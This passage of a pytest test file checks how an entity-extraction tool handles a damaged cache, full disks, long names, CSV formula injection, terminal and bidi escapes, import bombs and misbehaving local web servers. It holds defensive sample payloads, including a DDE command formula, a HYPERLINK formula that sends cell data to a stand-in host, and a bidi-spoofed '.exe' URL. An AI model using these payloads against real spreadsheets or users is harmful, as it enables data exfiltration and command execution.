    code, out, err = c.run("people", c.article(), c.article("other.txt", OTHER),
                           "--format", "json", *extra)
    return code, sorted(p["name"] for p in json.loads(out)) if out.strip() else [], err


def _index_file() -> Path:
    [db] = (Path(os.environ["PERSONAE_CACHE_DIR"]) / "index").glob("library-*.sqlite")
    return db


def _sql(db: Path, *statements: str) -> None:
    import sqlite3

    con = sqlite3.connect(db, isolation_level=None)
    for st in statements:
        con.execute(st)
    con.close()


def _patch_bytes(db: Path) -> None:
    import random

    rng = random.Random(27)
    data = bytearray(db.read_bytes())
    for _ in range(50):
        at = rng.randrange(100, len(data) - 16)
        data[at:at + 16] = rng.randbytes(16)
    db.write_bytes(bytes(data))


def _folder_for(db: Path, suffix: str = "") -> None:
    target = Path(str(db) + suffix)
    target.unlink(missing_ok=True)
    target.mkdir()
    (target / "x").write_text("x", encoding="utf-8")


INDEX_DAMAGE = {  # set aside and rebuilt
    "50 random 16-byte patches": _patch_bytes,
    "a table of another shape": lambda db: _sql(db, "DROP TABLE article",
                                                "CREATE TABLE article(x, y)"),
    "a dropped table": lambda db: _sql(db, "DROP TABLE person"),
    "bad JSON in the roles column": lambda db: _sql(
        db, "UPDATE person SET roles = '{not json'", "UPDATE entity SET roles = '[{'"),
    "wrong types in a row": lambda db: _sql(db, "UPDATE person SET roles = 5, summary = 7"),
    "a folder in place of the file": _folder_for,
    "a folder where its -wal goes": lambda db: _folder_for(db, "-wal"),
}


def damaged_index(name: str) -> Callable[[Ctx], None]:
    def case(c: Ctx):
        code, before, err = _people(c)
        assert code == 0 and len(before) >= 3, err
        db = _index_file()
        INDEX_DAMAGE[name](db)
        code, after, err = _people(c)
        assert code == 0, err
        assert after == before   # never a shorter list
        [line] = one_line_errors(err, 1)
        assert "set aside" in line
        assert list(db.parent.glob(db.name + ".damaged-*"))
        code, again, err = _people(c)  # rebuilt: the next run reads it as it is
        assert (code, again, err) == (0, before, "")
    case.__name__ = "case_damaged_index_is_set_aside_and_rebuilt-" + name.replace(
        " ", "_").replace(",", "")
    return case


def _file_in_place(p: Path) -> Path:
    p.write_text("not a folder", encoding="utf-8")
    return p


def _loop(p: Path) -> Path:
    p.symlink_to(p)
    return p


def _dangling(p: Path) -> Path:
    p.symlink_to(p.parent / "nowhere" / "cache")
    return p


UNUSABLE_CACHE = {  # the index cannot be kept: counted in memory, said, exit 1
    "the cache folder a regular file": _file_in_place,
    "the cache folder a symlink loop": _loop,
    "the cache folder a dangling symlink": _dangling,
    "index/ a regular file": lambda p: (p.mkdir(), _file_in_place(p / "index"))[1].parent,
}


def unusable_cache(name: str) -> Callable[[Ctx], None]:
    def case(c: Ctx):
        code, before, err = _people(c)
        assert code == 0, err
        c.monkeypatch.setenv("PERSONAE_CACHE_DIR", str(UNUSABLE_CACHE[name](c.tmp / "bad")))
        code, after, err = _people(c)
        assert code == 1, err
        assert after == before
        [line] = one_line_errors(err, 1)
        assert "in memory" in line
    case.__name__ = "case_unusable_cache_counts_in_memory-" + name.replace(" ", "_").replace(
        "/", "")
    return case


def case_locked_index_is_waited_for_then_counted_in_memory(c: Ctx):
    import sqlite3

    from tui.store import index

    code, before, err = _people(c)
    assert code == 0, err
    db = _index_file()
    c.monkeypatch.setattr(index, "LOCK_WAIT", 0.3, raising=False)
    holder = sqlite3.connect(db, isolation_level=None)  # another process, as far as SQLite knows
    holder.execute("PRAGMA locking_mode = EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    try:
        code, after, err = _people(c)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert code == 0, err
    assert after == before
    [line] = one_line_errors(err, 1)
    assert "in use" in line
    con = sqlite3.connect(db)  # the index was left as it was: every article still analysed
    assert con.execute("SELECT count(*), sum(analysed) FROM article").fetchone() == (2, 2)
    con.close()


def case_read_only_cache_counts_in_memory(c: Ctx):
    code, before, err = _people(c)
    assert code == 0, err
    cache = c.tmp / "ro-cache"
    cache.mkdir()
    cache.chmod(0o555)
    c.monkeypatch.setenv("PERSONAE_CACHE_DIR", str(cache))
    out = c.tmp / "people.json"
    code, err = as_unprivileged(["people", str(c.tmp / "good.txt"), str(c.tmp / "other.txt"),
                                 "--format", "json", "-o", str(out), "--model", str(c.model)])
    cache.chmod(0o755)
    assert code == 1, err
    [line] = one_line_errors(err, 1)
    assert "in memory" in line
    assert sorted(p["name"] for p in json.loads(out.read_text(encoding="utf-8"))) == before


def case_full_cache_disk_counts_in_memory(c: Ctx):
    import resource
    import signal
    import subprocess

    code, before, err = _people(c)
    assert code == 0, err
    c.monkeypatch.setenv("PERSONAE_CACHE_DIR", str(c.tmp / "full-cache"))

    def full_disk():  # no file may grow: every write to the cache fails, as on a full disk
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))

    run = subprocess.run([sys.executable, "-m", "tui", "people", c.tmp / "good.txt",
                          c.tmp / "other.txt", "--format", "json", "--model", c.model],
                         cwd=Path(__file__).resolve().parent.parent, capture_output=True,
                         text=True, timeout=120, preexec_fn=full_disk)
    assert run.returncode == 1, run.stderr
    [line] = one_line_errors(run.stderr, 1)
    assert "cannot be" in line and "in memory" in line
    assert sorted(p["name"] for p in json.loads(run.stdout)) == before


# -- 27.3 full and closed standard output ----------------------------------------------------

def _personae(argv: list, stdout: str) -> tuple[int, str]:
    """``python -m tui ARGV`` in a child process with its standard output on /dev/full
    ("full") or closed ("closed"): (exit status, stderr). A child, because what goes
    wrong comes at the interpreter's exit too (its last flush of standard output)."""
    import subprocess

    root = Path(__file__).resolve().parent.parent
    args = [sys.executable, "-m", "tui", *[str(a) for a in argv]]
    if stdout == "full":
        with open("/dev/full", "w") as full:
            run = subprocess.run(args, cwd=root, stdout=full, stderr=subprocess.PIPE,
                                 text=True, timeout=120)
    else:
        run = subprocess.run(args, cwd=root, stderr=subprocess.PIPE, text=True, timeout=120,
                             preexec_fn=lambda: os.close(1))
    return run.returncode, run.stderr


def case_full_or_closed_standard_output_is_one_line(c: Ctx):
    src = write_json(c.tmp / "d.json", document())
    model = ["--model", c.model]
    for argv, stdout in ((["import", src, "--format", "csv", "-o", "-"], "full"),
                         (["export", c.article(), "--format", "jsonl", "-o", "-", *model], "full"),
                         (["people", c.article(), "--format", "csv", *model], "closed")):
        code, err = _personae(argv, stdout)
        assert code == 1, (argv[0], stdout, err)
        [line] = one_line_errors(err, 1)
        assert "standard output" in line, line


# -- 27.4 long names ------------------------------------------------------------------------

def case_stem_of_230_bytes_exports_beside_it(c: Ctx):
    stem = "s" * 230
    src = c.article(stem + ".txt")
    code, _o, err = c.run("export", src, "--format", "json", "-o", f"{c.tmp / 'out'}/")
    assert code == 0, err
    assert json.loads((c.tmp / "out" / f"{stem}.json").read_text(encoding="utf-8"))["text"]
    code, _o, err = c.run("export", src, "--format", "brat", "-o", c.tmp / "out" / f"{stem}.ann")
    assert code == 0, err
    assert (c.tmp / "out" / f"{stem}.ann").is_file() and (c.tmp / "out" / f"{stem}.txt").is_file()


def case_output_name_of_245_bytes_is_written(c: Ctx):
    out = c.tmp / ("x" * 240 + ".json")
    code, _o, err = c.run("export", c.article(), "--format", "json", "-o", out)
    assert code == 0, err
    assert json.loads(out.read_text(encoding="utf-8"))["schema"] == "personae/1"
    assert [p.name for p in c.tmp.iterdir() if p.name.endswith(".tmp")] == []


def case_names_the_system_refuses_are_one_line(c: Ctx):
    past_path_max = str(c.tmp / "/".join(["d" * 200] * 25) / "a.txt")  # 5,000 bytes
    too_long = str(c.tmp / ("n" * 300 + ".txt"))  # one name past 255 bytes
    good = c.article()
    src = write_json(c.tmp / "d.json", document())
    for argv in (["export", past_path_max, "--format", "json", "-o", c.tmp / "o.json"],
                 ["export", too_long, "--format", "json", "-o", c.tmp / "o.json"],
                 ["export", good, "--format", "json", "-o", past_path_max],
                 ["export", good, "--format", "json", "-o", c.tmp / ("n" * 300 + ".json")],
                 ["import", past_path_max, "--format", "csv", "-o", "-"],
                 ["import", src, "--format", "csv", "-o", past_path_max],
                 ["people", past_path_max, "--format", "csv"],
                 ["people", good, "--format", "csv", "-o", past_path_max]):
        code, _o, err = c.run(*argv)
        assert code == 1, (argv[:2], err)
        [line] = one_line_errors(err, 1)
        assert "too long" in line, line


# -- 27.5 formulas in the CSV export -----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(A1:A9)"]


def case_formula_names_are_written_as_text_in_csv(c: Ctx):
    for formula in FORMULAS:
        src = write_json(c.tmp / "f.json", document(name=formula))
        code, out, err = c.run("import", src, "--format", "csv", "-o", "-")
        assert code == 0, err
        [name] = [row[2] for row in csv_cells(out)[1:] if row[1] == "PER"]
        assert name == "'" + formula, (formula, out)
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv_cells(out)
                       for cell in row), out


# -- 27.6 escapes and bidi controls through URLs ------------------------------------------

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def no_bidi(s: str) -> None:
    assert not any(ch in s for ch in BIDI), repr(s)


def case_saved_page_with_escapes_in_its_url_exports_clean(c: Ctx):
    library = _own_library(c)
    library.mkdir(parents=True)
    page = library / "lavrov.txt"
    page.write_text(GOOD, encoding="utf-8")
    url = f"https://news.test/esteri/{OSC0}lavrov\u202e\u2066txt.exe"
    write_json(library / "lavrov.txt.json", {"url": url, "final_url": url, "title": f"T{OSC52}",
                                             "fetched": "2026-01-01T00:00:00+00:00"})
    for fmt in ("html", "json", "jsonl", "labelstudio", "doccano"):
        code, out, err = c.run("export", page, "--format", fmt, "-o", "-")
        assert code == 0, f"{fmt}: {err}"
        no_escapes(out)
        no_bidi(out)
        assert "pwned" not in out, fmt
    data = json.loads(c.run("export", page, "--format", "json", "-o", "-")[1])
    assert data["source"]["url"] == "https://news.test/esteri/lavrovtxt.exe"


def case_feed_link_with_escapes_is_cleaned(c: Ctx):
    from tui.sources.feeds import parse_feed

    link = f"https://news.test/a{OSC0}\u202eb c"
    rss = ("<rss version='2.0'><channel><title>Feed</title><item><title>A</title>"
           f"<link>{link}</link></item></channel></rss>").encode()
    [item] = parse_feed(rss, "https://news.test/feed.xml").items
    no_escapes(item.link)
    no_bidi(item.link)
    assert item.link == "https://news.test/ab%20c"


# -- 27.7 bombs and quadratic imports -----------------------------------------------------

class Budget:
    """Counts units of work and fails the test as soon as they pass the budget (so the
    quadratic code of before fails quickly instead of running for minutes)."""

    def __init__(self, limit: int) -> None:
        self.limit, self.used = limit, 0

    def spend(self) -> None:
        self.used += 1
        if self.used > self.limit:
            raise AssertionError(f"more than {self.limit} steps: not O(n log n)")


def case_overlap_check_does_n_log_n_work(c: Ctx):
    from tui.document import Mention, non_overlapping

    budget = Budget(0)

    class Counted(Mention):
        def __getattribute__(self, name):
            if name in ("start", "end"):
                budget.spend()
            return object.__getattribute__(self, name)

    n = 4000  # nested and crossing spans, as another tool's file may have
    spans = [Counted(f"m{i}", 3 * i, 3 * i + 2 + (i % 5), "x", "PER") for i in range(n)]
    budget.limit = 20 * n
    kept = non_overlapping(spans)
    assert [(m.start, m.end) for m in kept] == sorted((m.start, m.end) for m in kept)
    assert all(a.end <= b.start for a, b in zip(kept, kept[1:], strict=False))
    assert len(kept) > n // 2


def case_token_cuts_do_linear_work(c: Ctx):
    from tui.document import Annotations, Mention
    from tui.export.common import split_tokens

    budget = Budget(0)

    class Offset(int):  # each comparison of a mention's offset is one unit of work
        def __lt__(self, other):
            budget.spend()
            return int(self) < other

        def __gt__(self, other):
            budget.spend()
            return int(self) > other

        def __le__(self, other):
            budget.spend()
            return int(self) <= other

        def __ge__(self, other):
            budget.spend()
            return int(self) >= other

        __hash__ = int.__hash__

    words = 20_000  # "Mario Rossi " again and again, every fifth a mention
    text = "Mario Rossi " * (words // 2)
    tokens = [(12 * (i // 2) + (6 if i % 2 else 0), 12 * (i // 2) + (11 if i % 2 else 5))
              for i in range(words)]
    mentions = [Mention(f"m{k}", Offset(60 * k), Offset(60 * k + 11), "Mario Rossi", "PER")
                for k in range(words // 10)]
    ann = Annotations(text=text, mentions=mentions, tokens=tokens)
    budget.limit = 50 * (words + 2 * len(mentions))
    out = split_tokens(ann)
    assert len(out) == words


def case_relabelling_a_long_article_does_linear_work(c: Ctx):
    import spacy

    from tui.nlp.ner import relabel

    if relabel.model() is None:
        pytest.skip("the span relabeller's weights are not installed")
    budget = Budget(0)

    class Piece(tuple):  # (doc, offset): each time a piece is unpacked is one unit of work
        def __iter__(self):
            budget.spend()
            return super().__iter__()

    nlp = spacy.blank("it")
    paragraph = "Mario Rossi parla a Roma.\n\n"
    n = 400  # an article of 400 paragraphs, one name in each
    text = paragraph * n
    docs = [Piece((nlp(paragraph.strip()), k * len(paragraph))) for k in range(n)]
    spans = [(k * len(paragraph), k * len(paragraph) + 11, "PER") for k in range(n)]
    budget.limit = 20 * n
    out = relabel.relabel(text, spans, docs)
    assert len(out) == n


def _docbin_bytes(words: int) -> bytes:
    from spacy.tokens import Doc, DocBin
    from spacy.vocab import Vocab

    db = DocBin()
    db.add(Doc(Vocab(), words=["parola"] * words))
    return db.to_bytes()


IMPORT_BOMBS = {
    # name: (file name, what it holds, the bound lowered for the test, to what)
    "DocBin that inflates past the bound": (
        "bomb.spacy", lambda: _docbin_bytes(20_000), "MAX_IMPORT_EXPANDED", 64 * 1024),
    "JSON of many empty objects": (
        "many.json", lambda: json.dumps({**document(), "x": [{}] * 5000}).encode(),
        "MAX_IMPORT_ITEMS", 1000),
    "jsonl line with too many spans": (
        "spans.jsonl", lambda: (json.dumps({"text": "Mario Rossi. " * 300, "spans": [
            {"start": 13 * i, "end": 13 * i + 11, "label": "PER"} for i in range(300)]})
            + "\n").encode(),
        "MAX_IMPORT_SPANS", 100),
    "brat file with too many mentions": (
        "many.ann", lambda: "".join(f"T{i + 1}\tPER {13 * i} {13 * i + 11}\tMario Rossi\n"
                                    for i in range(300)).encode(),
        "MAX_IMPORT_SPANS", 100),
}


def import_bomb(name: str) -> Callable[[Ctx], None]:
    def case(c: Ctx):
        from tui.export import common

        file_name, make, bound, value = IMPORT_BOMBS[name]
        c.monkeypatch.setattr(common, bound, value, raising=False)
        src = c.tmp / file_name
        src.write_bytes(make())
        (c.tmp / "many.txt").write_text("Mario Rossi. " * 300, encoding="utf-8")
        code, _o, err = c.run("import", src, "--format", "csv", "-o", c.tmp / "out.csv")
        assert code == 1, f"{code} {err}"
        [line] = one_line_errors(err, 1)
        assert "refused" in line, line
        assert not (c.tmp / "out.csv").exists()
    case.__name__ = "case_import_bomb_is_refused_in_one_line-" + name.replace(" ", "_").replace(
        ",", "")
    return case


# -- 27.9 and 27.10 the web: local servers on 127.0.0.1 only ------------------------------

@contextlib.contextmanager
def local_server(respond: Callable[[socket.socket, threading.Event], None]):
    """A web server on 127.0.0.1 that answers every request with ``respond(conn, stop)``
    (raw bytes: it may lie about lengths or send a byte at a time); yields its base URL."""
    srv = socket.create_server(("127.0.0.1", 0))
    srv.settimeout(0.1)
    stop = threading.Event()

    def one(conn: socket.socket) -> None:
        with conn:
            conn.settimeout(10)
            data = b""
            try:
                while b"\r\n\r\n" not in data:
                    chunk = conn.recv(4096)
                    if not chunk:
                        return
                    data += chunk
                respond(conn, stop)
            except OSError:
                pass

    def loop() -> None:
        while not stop.is_set():
            try:
                conn, _addr = srv.accept()
            except OSError:
                continue
            threading.Thread(target=one, args=(conn,), daemon=True).start()

    t = threading.Thread(target=loop, daemon=True)
    t.start()
    try:
        yield f"http://127.0.0.1:{srv.getsockname()[1]}"
    finally:
        stop.set()
        t.join(5)
        srv.close()


def _own_library(c: Ctx) -> Path:
    c.monkeypatch.setenv("PERSONAE_DATA_DIR", str(c.tmp / "data"))
    return c.tmp / "data" / "library"


def case_page_cut_short_is_an_error_and_not_saved(c: Ctx):
    library = _own_library(c)
    body = GOOD.encode("utf-8")

    def respond(conn, _stop):
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=utf-8\r\n"
                     b"Content-Length: 100000\r\n\r\n" + body)  # then closes: 100000 promised

    with local_server(respond) as base:
        code, _o, err = c.run("export", f"{base}/esteri/lavrov.txt", "--format", "json",
                              "-o", c.tmp / "o.json")
    assert code == 1, err
    [line] = one_line_errors(err, 1)
    assert "cut short" in line
    assert not (c.tmp / "o.json").exists()
    assert not library.exists() or not list(library.iterdir())


def case_bad_url_literals_are_one_line_and_bad_usage(c: Ctx):
    for url in ("http://[::1/a", "http://x]/a", "https://[zz::1]/a"):
        code, _o, err = c.run("export", url, "--format", "json", "-o", c.tmp / "o.json")
        assert code == 2, (url, err)
        [line] = one_line_errors(err, 1)
        assert "not a valid URL" in line


def case_redirect_to_ftp_is_not_followed(c: Ctx):
    library = _own_library(c)
    ftp = socket.create_server(("127.0.0.1", 0))  # where the redirect points: nobody may call
    port = ftp.getsockname()[1]

    def respond(conn, _stop):
        conn.sendall(f"HTTP/1.1 302 Found\r\nLocation: ftp://127.0.0.1:{port}/a.txt\r\n"
                     "Content-Length: 0\r\n\r\n".encode())

    try:
        with local_server(respond) as base:
            code, _o, err = c.run("export", f"{base}/a", "--format", "json", "-o",
                                  c.tmp / "o.json")
        ftp.setblocking(False)
        with pytest.raises(BlockingIOError):  # no connection is waiting on the FTP port
            ftp.accept()
    finally:
        ftp.close()
    assert code == 1, err
    [line] = one_line_errors(err, 1)
    assert "ftp" in line and "only http and https" in line
    assert not library.exists() or not list(library.iterdir())


def case_headers_sent_a_byte_at_a_time_hit_the_deadline(c: Ctx):
    from tui.sources import fetch

    _own_library(c)
    c.monkeypatch.setattr(fetch, "DEADLINE", 1.0)  # the 60 s of the real limit, shortened

    sent: dict = {}

    def respond(conn, stop):
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n" + b"X-Slow: " + b"a" * 200
        for byte in head:  # 0.1 s a byte: the headers alone would take 25 s
            if stop.is_set():
                return
            conn.sendall(bytes([byte]))
            stop.wait(0.1)
        sent["all"] = True  # the client waited for every byte of the headers

    with local_server(respond) as base:
        code, _o, err = c.run("export", f"{base}/slow", "--format", "json", "-o",
                              c.tmp / "o.json")
    assert code == 1, err
    [line] = one_line_errors(err, 1)
    assert "timed out" in line
    assert "all" not in sent  # cut off at the deadline, not when the server was done


# -- 27.12 configuration that breaks every article ----------------------------------------

def case_lexicon_line_without_words_is_skipped_and_named(c: Ctx):
    config = c.tmp / "config"
    config.mkdir()
    (config / "places_it.tsv").write_text("Lerici\tof Lerici\n'\tof nowhere\n",
                                          encoding="utf-8")
    (config / "roles_it.tsv").write_text("'\tapostrophe\n", encoding="utf-8")
    _fresh_lexicon(c, config)
    try:
        code, _o, err = c.run("export", c.article(), "--format", "json", "-o", c.tmp / "o.json")
        assert code == 0, err
        assert "places_it.tsv line 2" in err and "roles_it.tsv line 1" in err, err
        data = json.loads((c.tmp / "o.json").read_text(encoding="utf-8"))
        assert any(e["name"] == "Serghei Lavrov" for e in data["entities"])
    finally:
        _reset_lexicon()


PEOPLE_DECISIONS_DAMAGE = {
    "operations a number": '{"version": 1, "ops": 7}',
    "nested 100,000 deep": '{"version": 1, "ops": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "a list of strings": '["merge", "split"]',
}


def damaged_people_decisions(name: str) -> Callable[[Ctx], None]:
    def case(c: Ctx):
        from tui.store import people_links

        p = people_links.path()
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(PEOPLE_DECISIONS_DAMAGE[name], encoding="utf-8")
        code, out, err = c.run("people", c.article(), "--format", "json")
        assert code == 0, err
        one_line_errors(err, 1)
        assert "kept as" in err
        assert any(person["name"] == "Serghei Lavrov" for person in json.loads(out))
        [kept] = list(p.parent.glob("people.damaged-*.json"))
        assert kept.read_text(encoding="utf-8") == PEOPLE_DECISIONS_DAMAGE[name]
    case.__name__ = "case_damaged_people_decisions_are_set_aside-" + name.replace(" ", "_")
    return case


@dataclass(frozen=True)
class Case:
    item: str
    name: str
    run: Callable[[Ctx], None]


CASES = [Case(item, fn.__name__.removeprefix("case_"), fn) for item, fn in [
    ("1", case_fifo_output_is_written_into_not_replaced),
    ("1", case_device_output_stays_a_device),
    ("1", case_stdout_style_symlink_stays_a_symlink),
    ("1", case_symlink_to_a_file_keeps_the_link),
    ("1", case_descriptor_link_writes_into_the_open_file),
    ("1", case_folder_is_refused_by_the_writer),
    ("15.11", case_new_export_respects_the_umask),
    ("15.11", case_replaced_export_keeps_its_mode),
    ("2", case_escapes_in_imported_names_do_not_reach_stdout),
    ("2", case_escapes_in_a_brat_gloss_are_removed),
    ("2", case_escapes_in_a_file_name_are_shown_escaped_on_stderr),
    ("2", case_escapes_in_the_reason_are_shown_escaped),
    ("2", case_could_not_open_notice_shows_the_name_escaped),
    ("3", case_label_with_a_tag_gives_no_live_tag_in_html),
    ("3", case_brat_script_label_gives_no_script_in_html),
    ("3", case_names_titles_and_glosses_are_escaped_in_html),
    *[("5", damaged_cache_entry(name)) for name in CACHE_DAMAGE],
    ("5", case_cache_entry_that_is_a_fifo_is_a_miss),
    ("5", case_cache_entry_that_is_a_zero_device_is_a_miss),
    ("5", case_settings_and_people_decisions_that_are_fifos_are_skipped),
    ("6", case_latin1_user_lexicon_is_read_and_reported),
    ("6", case_bad_line_in_a_user_lexicon_is_skipped_with_its_number),
    ("6", case_fifo_in_the_config_folder_does_not_hang),
    ("7", case_non_utf8_file_name_works_in_every_format),
    ("7", case_non_utf8_file_name_is_shown_escaped),
    ("8", case_symlink_loop_input_does_not_stop_the_good_one),
    ("8", case_symlink_loop_as_output_is_one_line),
    *[("9", hostile_json_import(name)) for name in IMPORT_DAMAGE],
    ("9", case_hostile_jsonl_lines_give_one_line_each),
    ("9", case_nul_in_source_path_is_no_traceback),
    ("9", case_one_bad_article_does_not_stop_the_good_one),
    ("9", case_path_traversal_stays_in_the_output_folder),
    ("9", case_fifo_given_to_import_does_not_hang),
    ("10", case_brat_pair_survives_a_full_disk),
    ("10", case_temporary_file_of_a_killed_write_is_removed),
    ("10", case_mismatched_brat_pair_is_refused),
    ("13", case_ctrl_c_is_one_line_and_130),
    ("13", case_empty_output_name_is_bad_usage),
    ("13", case_folder_without_search_permission_says_permission_denied),
    ("13", case_newline_in_a_file_name_stays_on_one_line),
    ("13", case_brat_label_with_a_newline_reads_back),
    ("15.14", case_import_jsonl_to_ann_beside_it),
    ("15.14", case_brat_import_still_refuses_to_overwrite_its_own_txt),
    *[("27.1", damaged_index(name)) for name in INDEX_DAMAGE],
    *[("27.1", unusable_cache(name)) for name in UNUSABLE_CACHE],
    ("27.2", case_locked_index_is_waited_for_then_counted_in_memory),
    ("27.3", case_read_only_cache_counts_in_memory),
    ("27.3", case_full_cache_disk_counts_in_memory),
    ("27.3", case_full_or_closed_standard_output_is_one_line),
    ("27.4", case_stem_of_230_bytes_exports_beside_it),
    ("27.4", case_output_name_of_245_bytes_is_written),
    ("27.4", case_names_the_system_refuses_are_one_line),
    ("27.5", case_formula_names_are_written_as_text_in_csv),
    ("27.6", case_saved_page_with_escapes_in_its_url_exports_clean),
    ("27.6", case_feed_link_with_escapes_is_cleaned),
    ("27.7", case_overlap_check_does_n_log_n_work),
    *[("27.7", import_bomb(name)) for name in IMPORT_BOMBS],
    ("27.8", case_token_cuts_do_linear_work),
    ("27.8", case_relabelling_a_long_article_does_linear_work),
    ("27.9", case_page_cut_short_is_an_error_and_not_saved),
    ("27.9", case_bad_url_literals_are_one_line_and_bad_usage),
    ("27.10", case_redirect_to_ftp_is_not_followed),
    ("27.10", case_headers_sent_a_byte_at_a_time_hit_the_deadline),
    ("27.12", case_lexicon_line_without_words_is_skipped_and_named),
    *[("27.12", damaged_people_decisions(name)) for name in PEOPLE_DECISIONS_DAMAGE],
    ("held", case_binary_input_is_one_line),
    ("held", case_escapes_inside_an_article_are_removed),
    ("held", case_read_only_output_folder_is_one_line),
    ("held", case_full_disk_leaves_the_old_export),
    ("held", case_legacy_encoded_article_is_read),
]]


@pytest.mark.parametrize("case", CASES, ids=[f"{c.item}-{c.name}" for c in CASES])
def test_battery(case: Case, tmp_path, tiny_nlp_path, capsys, monkeypatch, cache_dir):
    case.run(Ctx(tmp_path, tiny_nlp_path, capsys, monkeypatch))


# == the reader ========================================================================

async def test_reader_shows_an_imported_title_and_names_without_escapes(tmp_path):
    from tui.app.main import PersonaeApp, open_paths

    src = write_json(tmp_path / "evil.json",
                     document(name=f"Mario{ESCAPES} Rossi", title=f"Titolo{OSC0}{OSC52}"))
    app = PersonaeApp(open_paths([src]))
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        screen = app.screen
        assert screen.title == "Titolo"
        for e in screen.annotations.entities:
            no_escapes(e.name)
            no_escapes(" ".join(e.variants))
        no_escapes(screen.annotations.text)


async def _analysed(pilot, app):
    from tui.app.reader import ReaderScreen

    for _ in range(1200):
        if isinstance(app.screen, ReaderScreen) and app.screen.annotations is not None:
            return app.screen
        await pilot.pause(0.05)
    raise AssertionError("the reader did not show an analysis")


async def test_reader_analyses_a_file_whose_name_is_not_utf8(tmp_path, tiny_nlp_path, cache_dir):
    from tui.app.main import PersonaeApp, open_paths

    name = os.fsdecode(b"uniq\xe9.txt")
    (tmp_path / name).write_text(GOOD, encoding="utf-8")
    app = PersonaeApp(open_paths([tmp_path / name]), model=str(tiny_nlp_path))
    async with app.run_test(size=(100, 30)) as pilot:
        screen = await _analysed(pilot, app)
        assert screen.sub_title == "uniq\\xe9"
        assert any(e.name == "Serghei Lavrov" for e in screen.annotations.entities)
        assert not [n for n in app.said if n.severity == "error"]


async def test_reader_says_which_lexicon_line_was_skipped(tmp_path, tiny_nlp_path, cache_dir,
                                                          monkeypatch):
    from tui.app.main import PersonaeApp, open_paths
    from tui.nlp import lexicon

    config = tmp_path / "config"
    config.mkdir()
    (config / "places_it.tsv").write_text(f"Lerici\tof Lerici\nbad{CLEAR}\tx\n", encoding="utf-8")
    monkeypatch.setenv("PERSONAE_CONFIG_DIR", str(config))
    monkeypatch.setattr(lexicon, "_PROBLEMS", [])
    _reset_lexicon()
    try:
        article = tmp_path / "good.txt"
        article.write_text(GOOD, encoding="utf-8")
        app = PersonaeApp(open_paths([article]), model=str(tiny_nlp_path))
        async with app.run_test(size=(100, 30)) as pilot:
            await _analysed(pilot, app)
            await pilot.pause()
            said = [n.message for n in app.said]
            assert any("places_it.tsv line 2" in m for m in said), said
            for m in said:
                no_escapes(m)
    finally:
        _reset_lexicon()


@pytest.fixture
def own_config(tmp_path, monkeypatch):
    """A configuration folder of the test's own: the dialog remembers its last format there."""
    monkeypatch.setenv("PERSONAE_CONFIG_DIR", str(tmp_path / "config"))


@pytest.mark.parametrize("kind", ["fifo", "device"])
async def test_export_dialog_writes_into_a_fifo_or_device(tmp_path, kind, own_config):
    from textual.widgets import Input, Select

    from tui.app.dialogs import ExportScreen
    from tui.app.main import PersonaeApp, open_paths

    src = write_json(tmp_path / "doc.json", document())
    target = tmp_path / "target"
    if kind == "fifo":
        os.mkfifo(target)
        reader, got = drain_fifo(target)
    else:
        mknod_or_skip(target, 1, 3)
    app = PersonaeApp(open_paths([src]))
    async with app.run_test(size=(100, 30)) as pilot:
        await _analysed(pilot, app)
        await pilot.press("e")
        await pilot.pause()
        dialog = app.screen
        assert isinstance(dialog, ExportScreen)
        dialog.query_one("#format", Select).value = "csv"
        await pilot.pause()
        dialog.query_one("#path", Input).value = str(target)
        await pilot.pause()
        dialog.query_one("#path", Input).focus()
        await pilot.press("enter")  # "a device or a pipe: press Export again"
        await pilot.pause()
        assert "write into it" in str(dialog.query_one("#export-message").render())
        await pilot.press("enter")
        await pilot.pause()
        assert app.screen is not dialog
    mode = os.lstat(target).st_mode
    if kind == "fifo":
        reader.join(60)
        assert stat.S_ISFIFO(mode) and b"Mario Rossi" in got["data"]
    else:
        assert stat.S_ISCHR(mode)


async def test_export_dialog_does_not_wait_on_a_fifo_nobody_reads(tmp_path, own_config):
    from textual.widgets import Input

    from tui.app.main import PersonaeApp, open_paths

    src = write_json(tmp_path / "doc.json", document())
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    app = PersonaeApp(open_paths([src]))
    async with app.run_test(size=(100, 30)) as pilot:
        await _analysed(pilot, app)
        await pilot.press("e")
        await pilot.pause()
        dialog = app.screen
        dialog.query_one("#path", Input).value = str(fifo)
        await pilot.pause()
        dialog.query_one("#path", Input).focus()
        await pilot.press("enter")  # "a device or a pipe: press Export again"
        await pilot.pause()
        await pilot.press("enter")
        await pilot.pause()
        assert app.screen is dialog
        assert "nothing reads this pipe" in str(dialog.query_one("#export-message").render())
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


# == issue 27.11: the reader ==============================================================

async def test_reader_starts_with_a_settings_file_nested_100000_deep(tmp_path, own_config):
    from tui.app import settings
    from tui.app.main import PersonaeApp, open_paths

    settings.path().parent.mkdir(parents=True, exist_ok=True)
    settings.path().write_text('{"theme": ' + "[" * 100_000 + "]" * 100_000 + "}",
                               encoding="utf-8")
    assert settings.load() == {}
    src = write_json(tmp_path / "doc.json", document())
    app = PersonaeApp(open_paths([src]))
    async with app.run_test(size=(100, 30)) as pilot:
        await _analysed(pilot, app)
        assert not [n for n in app.said if n.severity == "error"]


def _silent_server():
    """A server that takes the request and never answers (an unreachable feed, as far
    as the reader can tell), recording when the client goes away."""
    gone = threading.Event()

    def respond(conn, stop):
        conn.settimeout(0.2)
        while not stop.is_set():
            try:
                if conn.recv(1) == b"":
                    break
            except TimeoutError:
                continue
            except OSError:
                break
        gone.set()

    return local_server(respond), gone


def _library(tmp_path, monkeypatch, n: int) -> list[Path]:
    from tui.sources import fetch

